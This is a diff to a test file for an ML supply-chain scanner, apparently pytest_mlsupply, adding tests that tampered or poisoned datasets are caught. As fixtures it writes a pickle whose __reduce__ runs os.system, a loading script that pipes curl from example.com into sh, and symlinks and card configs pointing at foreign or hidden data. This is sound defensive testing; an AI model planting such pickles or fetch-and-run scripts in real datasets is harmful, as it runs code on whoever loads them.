@@ -337,18 +337,15 @@ def hub_manifest(pipeline: Pipeline, pins: dict[str, str]) -> None:
 def test_a_hub_dataset_resolves_from_the_local_cache_and_its_pins_are_compared(
     pipeline: Pipeline, empty_hub_cache: Path
 ) -> None:
+    card = CARD.replace("n<1K", "10K<n<100K")  # not compared: the rows are not all here
     build_hub_cache(
         empty_hub_cache,
         "acme/reviews",
         COMMIT,
-        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
+        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": card.encode()},
         repo_type="dataset",
     )
     hub_manifest(pipeline, {"data/test.jsonl": digest('{"text": "ok"}\n' * 3)})
-    card = CARD.replace("n<1K", "10K<n<100K")  # not compared: the rows are not all here
-    (empty_hub_cache / "datasets--acme--reviews" / "snapshots" / COMMIT / "README.md").unlink()
-    build_card = empty_hub_cache / "datasets--acme--reviews" / "snapshots" / COMMIT / "README.md"
-    build_card.write_text(card)
 
     result = pipeline.result("provenance[reviews::dataset]")
 
@@ -558,3 +555,311 @@ def test_findings_about_other_files_outrank_an_unreadable_one(pipeline: Pipeline
     assert "MLS-DATA-004" in rules(result)
     assert result.error is not None
     assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+# --- adversarial review: what a pinned, classified dataset must not let through -----------------
+
+
+def test_a_file_added_to_a_pinned_local_dataset_fails_not_only_warns(pipeline: Pipeline) -> None:
+    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=CARD, extra__csv="x,y\n1,2\n")
+
+    assert "MLS-DATA-012" in rules(result)
+    assert "extra.csv" in next(f for f in result.findings if f.rule == "MLS-DATA-012").evidence
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+def test_a_tampered_blob_of_an_unpinned_hub_dataset_fails(
+    pipeline: Pipeline, empty_hub_cache: Path
+) -> None:
+    snapshot = build_hub_cache(
+        empty_hub_cache,
+        "acme/reviews",
+        COMMIT,
+        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
+        repo_type="dataset",
+    )
+    blob = (snapshot / "data" / "test.jsonl").resolve()
+    os.chmod(blob, 0o644)
+    blob.write_bytes(b'{"text": "poisoned"}\n' * 3)
+    declare(
+        pipeline,
+        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
+    )
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert rules(result) == ["MLS-DATA-013"]
+    assert result.findings[0].severity is Severity.CRITICAL
+
+
+def test_a_file_dropped_into_a_hub_dataset_snapshot_fails(
+    pipeline: Pipeline, empty_hub_cache: Path
+) -> None:
+    snapshot = build_hub_cache(
+        empty_hub_cache,
+        "acme/reviews",
+        COMMIT,
+        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
+        repo_type="dataset",
+    )
+    (snapshot / "data" / "extra.jsonl").write_text('{"text": "injected"}\n')
+    declare(
+        pipeline,
+        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
+    )
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert rules(result) == ["MLS-DATA-014"]
+    assert "data/extra.jsonl" in result.findings[0].evidence
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+@pytest.mark.parametrize("front", ["license: other", "license: unknown", "license: [other]"])
+def test_a_card_licence_that_names_no_licence_is_no_licence(pipeline: Pipeline, front: str) -> None:
+    card = CARD.replace("license: cc-by-4.0", front)
+
+    result = local(pipeline, "pii: none\n", reviews__csv=ROWS, README__md=card)
+
+    assert "MLS-DATA-001" in rules(result)
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+def test_a_csv_with_a_field_longer_than_the_csv_modules_limit_is_counted(tmp_path: Path) -> None:
+    path = tmp_path / "articles.csv"
+    path.write_text('title,body\nlong,"' + "word " * 40_000 + '"\nshort,text\n')
+    file = ArtifactFile(
+        model="articles", relpath="articles.csv", path=path, size=path.stat().st_size
+    )
+
+    assert count_rows((file,)) == 2
+
+
+def test_a_hub_dataset_card_cached_under_its_git_blob_id_passes(
+    pipeline: Pipeline, empty_hub_cache: Path
+) -> None:
+    snapshot = build_hub_cache(
+        empty_hub_cache,
+        "acme/reviews",
+        COMMIT,
+        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
+        repo_type="dataset",
+    )
+    # A regular (non-LFS) file's blob is named after its git object id, as the Hub serves it.
+    raw = CARD.encode()
+    git_id = hashlib.sha1(b"blob %d\0" % len(raw) + raw, usedforsecurity=False).hexdigest()
+    link = snapshot / "README.md"
+    link.resolve().rename(link.resolve().parent / git_id)
+    link.unlink()
+    link.symlink_to(f"../../blobs/{git_id}")
+    declare(
+        pipeline,
+        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
+    )
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert result.findings == []
+    assert result.facts["dataset"]["rows"] == 3
+
+
+@pytest.mark.parametrize(
+    "data_files",
+    [
+        ".cache/rows.csv",  # a directory the listing skips: never hashed
+        "[{split: train, path: .git/rows.csv}]",
+        "{train: ../elsewhere/rows.csv}",
+        "hf://datasets/mallory/poison@main/rows.csv",
+        "https://example.com/rows.csv",
+        "/srv/rows.csv",
+    ],
+)
+def test_a_card_whose_configs_load_data_the_claim_never_hashed_fails(
+    pipeline: Pipeline, data_files: str
+) -> None:
+    # `datasets.load_dataset(<dir>)` reads the card's `configs:` first: these rows, not the pins.
+    card = CARD.replace(
+        "---\n#", f"configs:\n- config_name: default\n  data_files: {data_files}\n---\n#"
+    )
+    directory = write_dataset(pipeline.project.root, {})
+    for hidden in (".cache", ".git"):
+        (directory / hidden).mkdir()
+        (directory / hidden / "rows.csv").write_text("text,label\nbad,1\n")
+
+    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=card)
+
+    assert "MLS-DATA-015" in rules(result)
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+def test_a_card_whose_configs_name_the_pinned_files_passes(pipeline: Pipeline) -> None:
+    card = CARD.replace(
+        "---\n#",
+        "configs:\n- config_name: default\n  data_files:\n  - split: train\n"
+        '    path: ["reviews.csv", "*.csv"]\n  data_dir: .\n---\n#',
+    )
+
+    result = local(pipeline, PINNED, reviews__csv=ROWS, README__md=card)
+
+    assert result.findings == []
+
+
+@pytest.mark.parametrize("extra", ["more.npy", "more.pkl", "more.xlsx", "more.tfrecord", "more.db"])
+def test_rows_in_a_format_not_counted_stop_the_count_whatever_its_suffix(
+    tmp_path: Path, extra: str
+) -> None:
+    (tmp_path / "a.jsonl").write_text("{}\n{}\n")
+    (tmp_path / extra).write_bytes(b"\x93NUMPY millions of rows")
+    (tmp_path / ".gitattributes").write_text("*.npy filter=lfs\n")
+    (tmp_path / "README.md").write_text(CARD)
+    entries = tuple(
+        ArtifactFile(model="d", relpath=p.name, path=p, size=p.stat().st_size)
+        for p in sorted(tmp_path.iterdir())
+    )
+
+    # Two rows would be the BOM's `rows` and the size compared, though the data is elsewhere.
+    assert count_rows(entries) is None
+    assert count_rows(tuple(e for e in entries if e.relpath != extra)) == 2
+
+
+class _Reduce:
+    def __reduce__(self) -> tuple[Any, tuple[str]]:
+        return (os.system, ("echo owned",))
+
+
+def test_a_pinned_pickle_in_a_dataset_is_scanned_and_fails(pipeline: Pipeline) -> None:
+    import pickle
+
+    payload = pickle.dumps(_Reduce())
+    directory = write_dataset(pipeline.project.root, {"reviews.csv": ROWS, "README.md": CARD})
+    (directory / "features.pkl").write_bytes(payload)
+    pins = f'reviews.csv: "{digest(ROWS)}", features.pkl: "{digest(payload)}"'
+    declare(pipeline, f"path: data/reviews\nlicense: cc-by-4.0\npii: none\nfiles: {{{pins}}}\n")
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert "MLS-PKL-001" in rules(result)
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+def test_a_pinned_loading_script_in_a_dataset_is_scanned_and_fails(pipeline: Pipeline) -> None:
+    script = "import os\nos.system('curl https://example.com/x | sh')\n"
+    pins = f'reviews.csv: "{digest(ROWS)}", reviews.py: "{digest(script)}"'
+    extra = f"license: cc-by-4.0\npii: none\nfiles: {{{pins}}}\n"
+
+    result = local(pipeline, extra, reviews__csv=ROWS, README__md=CARD, reviews__py=script)
+
+    assert "MLS-CODE-002" in rules(result)
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+def test_a_hub_dataset_file_linked_to_another_repositorys_blob_fails(
+    pipeline: Pipeline, empty_hub_cache: Path
+) -> None:
+    snapshot = build_hub_cache(
+        empty_hub_cache,
+        "acme/reviews",
+        COMMIT,
+        {"data/test.jsonl": b'{"text": "ok"}\n' * 3, "README.md": CARD.encode()},
+        repo_type="dataset",
+    )
+    # A well-formed blob, true to its own name, in a repository the manifest never declared.
+    other = build_hub_cache(
+        empty_hub_cache,
+        "mallory/poison",
+        "b" * 40,
+        {"data/test.jsonl": b'{"text": "poisoned"}\n' * 3},
+        repo_type="dataset",
+    )
+    link = snapshot / "data" / "test.jsonl"
+    link.unlink()
+    link.symlink_to(os.path.realpath(other / "data" / "test.jsonl"))
+    declare(
+        pipeline,
+        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
+    )
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert rules(result) == ["MLS-DATA-014"]
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+
+
+def test_a_hub_dataset_file_linked_to_another_blob_than_the_commit_lists_fails(
+    pipeline: Pipeline, empty_hub_cache: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import dataclasses
+
+    from pytest_mlsupply.checks import provenance_dataset
+    from pytest_mlsupply.sources.hub import HubFileMeta
+
+    train, test = b'{"text": "train"}\n' * 3, b'{"text": "test"}\n' * 3
+    snapshot = build_hub_cache(
+        empty_hub_cache,
+        "acme/reviews",
+        COMMIT,
+        {"data/train.jsonl": train, "data/test.jsonl": test, "README.md": CARD.encode()},
+        repo_type="dataset",
+    )
+    # The test split's link now serves the train split: both blobs are true to their names.
+    link = snapshot / "data" / "test.jsonl"
+    link.unlink()
+    link.symlink_to(f"../../../blobs/{hashlib.sha256(train).hexdigest()}")
+    # The commit's listing, as the Hub (or the cache's record of it) gives it.
+    listing = {
+        rel: HubFileMeta(rel, len(data), lfs_sha256=hashlib.sha256(data).hexdigest())
+        for rel, data in {"data/train.jsonl": train, "data/test.jsonl": test}.items()
+    }
+    real = provenance_dataset.resolve_dataset
+    monkeypatch.setattr(
+        provenance_dataset,
+        "resolve_dataset",
+        lambda decl: dataclasses.replace(real(decl), hub_files=listing),
+    )
+    declare(
+        pipeline,
+        f"source: hf-datasets://acme/reviews@{COMMIT}\nlicense: cc-by-4.0\npii: none\n",
+    )
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert rules(result) == ["MLS-DATA-014"]
+    assert "data/test.jsonl" in result.findings[0].evidence
+
+
+def test_a_loading_script_at_a_pinned_hub_datasets_commit_that_was_never_fetched_fails(
+    pipeline: Pipeline, empty_hub_cache: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import dataclasses
+
+    from pytest_mlsupply.checks import provenance_dataset
+    from pytest_mlsupply.sources.hub import HubFileMeta
+
+    rows = b'{"text": "ok"}\n' * 3
+    build_hub_cache(
+        empty_hub_cache,
+        "acme/reviews",
+        COMMIT,
+        {"data/test.jsonl": rows, "README.md": CARD.encode()},
+        repo_type="dataset",
+    )
+    # The commit also holds a loading script: `datasets` would run it; only the pins were fetched.
+    listing = {
+        "data/test.jsonl": HubFileMeta("data/test.jsonl", len(rows), blob_id="0" * 40),
+        "reviews.py": HubFileMeta("reviews.py", 120, blob_id="1" * 40),
+        "README.md": HubFileMeta(
+            "README.md", len(CARD), lfs_sha256=hashlib.sha256(CARD.encode()).hexdigest()
+        ),
+    }
+    real = provenance_dataset.resolve_dataset
+    monkeypatch.setattr(
+        provenance_dataset,
+        "resolve_dataset",
+        lambda decl: dataclasses.replace(real(decl), hub_files=listing, complete=False),
+    )
+    hub_manifest(pipeline, {"data/test.jsonl": digest(rows)})
+
+    result = pipeline.result("provenance[reviews::dataset]")
+
+    assert rules(result) == ["MLS-DATA-016"]
+    assert "reviews.py" in result.findings[0].evidence
